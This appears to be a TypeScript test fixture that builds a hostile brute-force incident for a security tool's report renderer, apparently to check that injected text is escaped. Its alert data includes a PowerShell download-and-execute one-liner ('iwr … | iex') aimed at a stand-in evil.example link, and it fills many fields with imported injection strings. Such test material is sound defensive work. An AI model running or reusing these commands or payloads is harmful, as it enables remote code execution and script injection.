import type { ReportInput } from '../../../activities/report/render';
import type { IncidentView } from '../../../db/views';
import type { Classification } from '../../../domain/alert';
import { HOSTILE, hostileAssessment, SIGNALS } from './hostile';
import { SOURCES } from '../../support/sources';

const AT = '2026-11-23T02:10:00.000000Z';
const CLASSIFICATION: Classification = { alert_type: 'brute_force', confidence: 1, reasons: ['the source says so'] };

function auditRow(seq: number, action: string, summary: string): IncidentView['audit'][number] {
  return {
    chain: 'INC-7K3M9QX2AB',
    incident_id: 'INC-7K3M9QX2AB',
    seq,
    action_key: `1/${action}`,
    at: `2026-11-23T02:10:0${seq}.000000Z`,
    action,
    status: 'ok',
    actor: 'worker',
    provider: null,
    observable: null,
    failures: 0,
    duration_ms: 12 * seq,
    summary,
    detail: {},
    raw_sha256: null,
    workflow_run_id: '0199a-run',
    prev_hash: '0'.repeat(64),
    hash: 'c'.repeat(64),
  };
}

function audit(): IncidentView['audit'] {
  return [
    auditRow(1, 'accept', `Alert ALT-0000000001 from firewall ${HOSTILE.refresh}`),
    auditRow(2, 'claim', 'Run 1 works on the incident'),
    {
      ...auditRow(3, 'lookup', `12 of 91 engines ${HOSTILE.comment}`),
      provider: 'virustotal',
      observable: 'ip:185.220.101.1',
      failures: 2,
    },
    auditRow(4, 'score', 'malicious, 92 of 100'),
  ];
}

function hostileAlert(): IncidentView['alerts'][number] {
  return {
    alert_id: 'ALT-0000000001',
    source_alert_id: `FW-1${HOSTILE.script}`,
    classification: CLASSIFICATION,
    extra: {},
    raw_sha256: 'd'.repeat(64),
    source: 'firewall',
    alert_type: 'brute_force',
    severity: 'high',
    timestamp: '2026-11-23T02:09:58.000000Z',
    title: HOSTILE.image,
    src_ip: '185.220.101.1',
    username: HOSTILE.attribute,
    file_name: HOSTILE.reversed,
    url: HOSTILE.link,
    command_line: `powershell -c "iwr ${HOSTILE.link} | iex" ${HOSTILE.template}`,
    description: `${HOSTILE.style}${HOSTILE.comment}${HOSTILE.refresh}`,
    raw_log: 'A'.repeat(9_000),
    failed_attempts: 48,
    format: 'canonical',
    received_at: AT,
  };
}

/** Nothing that an analyst does, and nothing that is due. */
export const NO_CASEWORK = {
  ...{ status_by: null, hold: null, suppressed_by: null, closed_at: null, notes_history: [] },
  sla: {
    ...{ ack_due: null, close_due: null, acknowledged_at: null, escalated_to: null },
    ...{ paused: false, breached: false, breaches: {} },
  },
};

function hostileView(): IncidentView {
  return {
    id: 'INC-7K3M9QX2AB',
    version: 4,
    status: 'investigating',
    resolution: null,
    alert_type: 'brute_force',
    severity: 'high',
    source: `firewall ${HOSTILE.script}`,
    title: `48 failed logons as administrator ${HOSTILE.script}`,
    assignee: null,
    verdict: 'malicious',
    verdict_state: 'provisional',
    score: 92,
    flagged: null,
    ...NO_CASEWORK,
    complete: false,
    missing: [],
    machine_verdict: 'malicious',
    override: null,
    explanation: 'Malicious: the address is a known attacker',
    rules: null,
    ledger: [],
    verdict_timeline: [
      {
        at: '2026-11-23T02:10:04.500000Z',
        verdict: 'malicious',
        state: 'provisional',
        score: 92,
        by: 'machine',
        reason: 'Round 1',
      },
    ],
    alert_count: 1,
    first_seen: '2026-11-23T02:09:58.000000Z',
    last_seen: '2026-11-23T02:09:58.000000Z',
    correlation: null,
    classification: CLASSIFICATION,
    decision: null,
    alerts: [hostileAlert()],
    alerts_omitted: 0,
    audit_omitted: 0,
    related: [],
    observables: [
      { type: 'ip', value: '185.220.101.1', roles: ['source'], flags: [] },
      { type: 'domain', value: 'login.evil.example', roles: ['link'], flags: [] },
      { type: 'url', value: HOSTILE.link, roles: ['link', 'mentioned'], flags: [] },
      { type: 'host', value: `dc01${HOSTILE.script}`, roles: ['alerted_host'], flags: ['internal_name'] },
      { type: 'ip', value: '10.0.0.5', roles: ['destination'], flags: ['private', 'own'] },
    ],
    enrichments: [
      {
        source: 'virustotal',
        observable: 'ip:185.220.101.1',
        state: 'ok',
        until: null,
        summary: '12 of 91 engines',
        at: AT,
      },
      {
        source: 'geoip',
        observable: 'ip:185.220.101.1',
        state: 'failed',
        until: null,
        summary: `HTTP 502 ${HOSTILE.script}`,
        at: AT,
      },
      {
        source: 'virustotal',
        observable: 'domain:login.evil.example',
        state: 'waiting',
        until: '2026-11-24T00:00:00.000000Z',
        summary: 'Quota spent',
        at: AT,
      },
    ],
    signals: SIGNALS,
    analyst_notes: '',
    audit: audit(),
    created_at: AT,
    updated_at: AT,
  };
}

/** A malicious brute-force incident whose every text tries to break out of the page. */
export function hostileReport(changes: Partial<ReportInput> = {}): ReportInput {
  return {
    view: hostileView(),
    decision: {
      outcome: 'escalate',
      status: 'escalated',
      resolution: null,
      reason: `The verdict is malicious ${HOSTILE.script}`,
      recommendations: [
        `Block 185.220.101.1 at the edge ${HOSTILE.image}`,
        'Reset the password of administrator',
        `Do not open ${HOSTILE.link}`,
      ],
    },
    assessment: hostileAssessment(),
    playbookTitle: 'Brute force',
    sources: SOURCES,
    generatedAt: '2026-11-23T02:10:05.000000Z',
    version: 1,
    author: 'playbook',
    reason: 'Round 1',
    head: { seq: 4, hash: 'c'.repeat(64) },
    simulated: true,
    publicUrl: 'http://127.0.0.1:8080',
    ...changes,
  };
}

/** The same incident before its first scoring round. */
export function pendingReport(): ReportInput {
  const view: IncidentView = {
    ...hostileView(),
    verdict: 'unknown',
    verdict_state: 'pending',
    score: null,
    machine_verdict: null,
    explanation: null,
    signals: [],
    enrichments: [],
    verdict_timeline: [],
  };
  const decision = {
    outcome: 'open',
    status: 'open',
    resolution: null,
    reason: 'The verdict is unknown',
    recommendations: [],
  } as const;
  return hostileReport({ view, decision: { ...decision, recommendations: [] }, assessment: null, simulated: false });
}

const CLOSED_AT = '2026-11-23T09:41:30.000000Z';

/** What people have made of it: one has overridden the verdict, another one has closed it while a source was waited for. */
function handledView(): IncidentView {
  const view = hostileView();
  const reason = `The pentest of CHG-1042, see ${HOSTILE.link} @everyone`;
  const override = { verdict: 'benign', reason, by: 'ana', at: '2026-11-23T09:40:00.000000Z' } as const;
  const note = `Asked the owner ${HOSTILE.script}\n\n# Not a heading\n- [x] not a task, @ben`;
  const act = (seq: number, action: string, at: string, actor: string, summary: string, detail: object) => ({
    ...auditRow(seq, action, summary),
    ...{ action_key: `act/${seq}`, at, actor, detail, duration_ms: 0 },
  });
  const cancelled = ['virustotal/domain:login.evil.example'];
  return {
    ...view,
    ...{ status: 'closed', resolution: 'false_positive', status_by: 'ben', closed_at: CLOSED_AT },
    ...{ verdict: 'benign', verdict_state: 'overridden', override, assignee: 'ben' },
    analyst_notes: note,
    notes_history: [{ at: '2026-11-23T09:41:00.000000Z', by: 'ben', text: note }],
    sla: {
      ...{ ack_due: '2026-11-23T02:40:00.000000Z', close_due: '2026-11-23T06:10:00.000000Z' },
      ...{ acknowledged_at: '2026-11-23T02:31:00.000000Z', escalated_to: 'shift lead', paused: false },
      ...{ breached: true, breaches: { close: '2026-11-23T06:10:00.000000Z' } },
    },
    enrichments: view.enrichments.map((answer) =>
      answer.state === 'waiting'
        ? { ...answer, state: 'failed', until: null, summary: 'not waited for any more: ben closed the incident' }
        : answer,
    ),
    missing: [
      {
        ...{ source: 'virustotal', observable: 'domain:login.evil.example', state: 'failed', until: null },
        reason: 'not waited for any more: ben closed the incident',
      },
    ],
    verdict_timeline: [
      ...view.verdict_timeline,
      { at: override.at, verdict: 'benign', state: 'overridden', score: 92, by: 'ana', reason },
    ],
    audit: [
      ...view.audit,
      act(5, 'acknowledge', '2026-11-23T02:31:00.000000Z', 'ana', 'ana acknowledged it', {
        status: { from: 'escalated', to: 'acknowledged' },
      }),
      act(6, 'report', '2026-11-23T02:31:00.000000Z', 'ana', 'Report 2 written', {}),
      act(7, 'override_verdict', override.at, 'ana', `ana overrode the verdict: benign: ${reason}`, {}),
      act(8, 'close', CLOSED_AT, 'ben', 'ben closed it as false_positive; 1 lookup is not waited for any more', {
        ...{ status: { from: 'acknowledged', to: 'closed' }, reason: 'The owner confirms it', cancelled },
      }),
    ],
  };
}

/** The hostile incident when analysts are done with it. */
export function handledReport(changes: Partial<ReportInput> = {}): ReportInput {
  return hostileReport({
    ...{ view: handledView(), concluded: true, version: 4, generatedAt: CLOSED_AT },
    ...{ author: 'ben', reason: 'ben closed it as false_positive: The owner confirms it' },
    assessment: { ...hostileAssessment(), version: '7' },
    ...changes,
  });
}
